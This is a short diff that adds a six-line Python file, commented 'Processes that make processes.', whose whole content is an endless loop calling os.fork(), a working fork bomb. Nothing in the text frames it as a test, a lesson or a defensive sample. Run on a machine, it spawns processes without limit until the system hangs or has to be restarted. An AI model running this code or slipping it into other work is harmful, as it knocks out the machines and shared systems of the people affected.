@@ -1,0 +1,6 @@
+# Processes that make processes.
+# stock: no
+import os
+
+while True:
+    os.fork()
